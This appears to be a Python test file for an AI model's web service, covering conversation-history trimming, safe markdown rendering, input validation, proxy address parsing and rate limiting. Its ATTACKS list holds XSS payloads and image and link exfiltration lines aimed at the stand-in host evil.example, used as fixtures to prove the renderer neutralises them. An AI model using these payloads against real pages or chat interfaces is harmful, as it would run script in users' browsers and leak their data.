"""The parts that need no database: history, markdown, limits, frames."""

from __future__ import annotations

import pytest

from assistant.errors import ContextTooLong, InvalidRequest, RateLimited
from assistant.types import Message
from conversations import counting, history, limits, markdown
from conversations.limits import Caller, client_address


def words(text: str) -> int:
    return len(text.split())


def pair(n: int, length: int = 6) -> tuple[Message, Message]:
    return Message("user", f"q{n} " * length), Message("assistant", f"a{n} " * length, "refund")


def test_the_newest_pairs_that_fit_are_kept_in_order():
    earlier = [pair(n) for n in range(5)]
    kept = history.fit(earlier, "now?", budget_tokens=5 + 2 * 20, count=words)
    assert kept == [*earlier[3], *earlier[4], Message("user", "now?")]


def test_a_pair_is_kept_whole_or_not_at_all():
    kept = history.fit([pair(1)], "now?", budget_tokens=5 + 19, count=words)
    assert kept == [Message("user", "now?")]


def test_no_older_pair_jumps_over_one_that_does_not_fit():
    earlier = [pair(1, 1), pair(2, 50)]
    assert len(history.fit(earlier, "now?", budget_tokens=60, count=words)) == 1


def test_a_question_that_does_not_fit_alone_is_refused_with_both_figures():
    with pytest.raises(ContextTooLong, match="104 tokens; 50 fit"):
        history.fit([], "x " * 100, budget_tokens=50, count=words)


def test_the_cost_of_a_long_history_is_the_cost_of_what_fits():
    counted: list[str] = []

    def count(text: str) -> int:
        counted.append(text)
        return words(text)

    history.fit([pair(n) for n in range(1000)], "now?", budget_tokens=100, count=count)
    assert len(counted) < 20


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("**a** _b_ `c`", "<p><strong>a</strong> <em>b</em> <code>c</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("a\nb", "<p>a<br>\nb</p>\n"),
    ],
)
def test_markdown_becomes_html(source, html):
    assert markdown.render(source) == html


def test_a_sentence_after_numbered_steps_stands_by_itself():
    html = markdown.render("Do this:\n1. Open it.\n2. Press Save.\nThen wait.")
    assert "<li>Press Save.</li>" in html
    assert "<p>Then wait.</p>" in html


def test_links_open_outside_with_no_way_back():
    html = markdown.render("[here](https://example.com)")
    assert 'rel="noopener noreferrer nofollow"' in html and 'target="_blank"' in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "<video src=https://evil.example/x>",
    "<iframe src=https://evil.example>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "<a href='https://e.example' onclick=alert(1)>x</a>",
    "<style>@import url(https://evil.example)</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input></form>",
    "```html\n<script>alert(1)</script>\n```",
    "<<script>script>alert(1)</script>",
]


@pytest.mark.parametrize("source", ATTACKS)
def test_nothing_in_an_answer_runs_or_loads_anything(source):
    from html.parser import HTMLParser

    found: list[str] = []

    class Looker(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append(tag)
            for name, value in attrs:
                assert name in {"href", "rel", "target", "title", "start"}, (tag, name)
                if name == "href":
                    assert str(value).split(":")[0] in {"http", "https", "mailto", "tel"}

    Looker().feed(markdown.render(source))
    assert not set(found) - markdown._TAGS


def test_a_bomb_is_shown_as_it_is():
    html = markdown.render("[" * 60_000)
    assert html.startswith("<pre>") and len(html) < 70_000


@pytest.mark.parametrize("text", ["x", "x" * 4_000, "a\tb\r\nc", "\u202eabc", "👩‍👩‍👧"])
def test_a_question_is_returned_unchanged(text):
    assert limits.valid_text(text, limit=4_000) == text


@pytest.mark.parametrize("text", ["", " \n", "x" * 4_001, "a\x00", "\ud800", "\x1b[0m", "\x9b", 5])
def test_what_is_no_question_is_refused_without_being_quoted(text):
    with pytest.raises(InvalidRequest) as refused:
        limits.valid_text(text, limit=4_000)
    assert "xxx" not in refused.value.message


@pytest.mark.parametrize(
    ("hops", "forwarded", "address"),
    [
        (0, "1.2.3.4", "192.0.2.1"),
        (1, "", "192.0.2.1"),
        (1, "1.2.3.4", "1.2.3.4"),
        (1, "9.9.9.9, 1.2.3.4", "1.2.3.4"),
        (2, "9.9.9.9, 1.2.3.4, 5.6.7.8", "1.2.3.4"),
        (2, "1.2.3.4", "192.0.2.1"),
        (1, "nonsense", "192.0.2.1"),
        (1, "1.2.3.4:80", "192.0.2.1"),
        (1, "2001:db8:1:2:3:4:5:6%eth0", "2001:db8:1:2::"),
    ],
)
def test_the_address_is_what_our_own_proxy_saw(hops, forwarded, address, settings):
    settings.ASSISTANT_TRUSTED_PROXIES = hops
    assert client_address("192.0.2.1", forwarded) == address


def test_a_forged_header_does_not_get_past_the_limit(settings):
    settings.ASSISTANT_RATE = "5/h"
    passed = 0
    for n in range(50):
        caller = Caller(None, f"visitor{n}", client_address("192.0.2.1", f"10.0.0.{n}"))
        try:
            limits.take(caller)
            passed += 1
        except RateLimited:
            pass
    assert passed == 5


def test_two_addresses_do_not_share_a_limit(settings):
    settings.ASSISTANT_RATE = "1/h"
    limits.take(Caller(None, "a", "192.0.2.1"))
    limits.take(Caller(None, "b", "192.0.2.2"))
    limits.take(Caller(7, "", "192.0.2.1"))
    with pytest.raises(RateLimited):
        limits.take(Caller(None, "c", "192.0.2.1"))


@pytest.mark.parametrize("failure", ["raises", "says nothing"])
def test_without_its_cache_the_limit_is_stricter_and_never_absent(failure, settings, monkeypatch):
    def away(*args: object, **kwargs: object) -> object:
        if failure == "raises":
            raise ConnectionError("redis is away")
        return {"count": 0, "limit": 0, "should_limit": True, "time_left": -1}

    monkeypatch.setattr(counting, "get_usage", away)
    monkeypatch.setattr(counting.shared, "elsewhere", lambda: True)
    settings.ASSISTANT_RATE = "20/h"
    for _ in range(5):
        limits.take(Caller(1))
    with pytest.raises(RateLimited) as refused:
        limits.take(Caller(1))
    assert 1 <= refused.value.retry_after_s <= 3600


def test_a_cache_that_nobody_else_sees_is_not_asked(settings, monkeypatch):
    monkeypatch.setattr(counting, "get_usage", lambda *_, **__: pytest.fail("counted twice"))
    settings.ASSISTANT_RATE = "20/h"
    for _ in range(20):
        limits.take(Caller(1))
    with pytest.raises(RateLimited):
        limits.take(Caller(1))
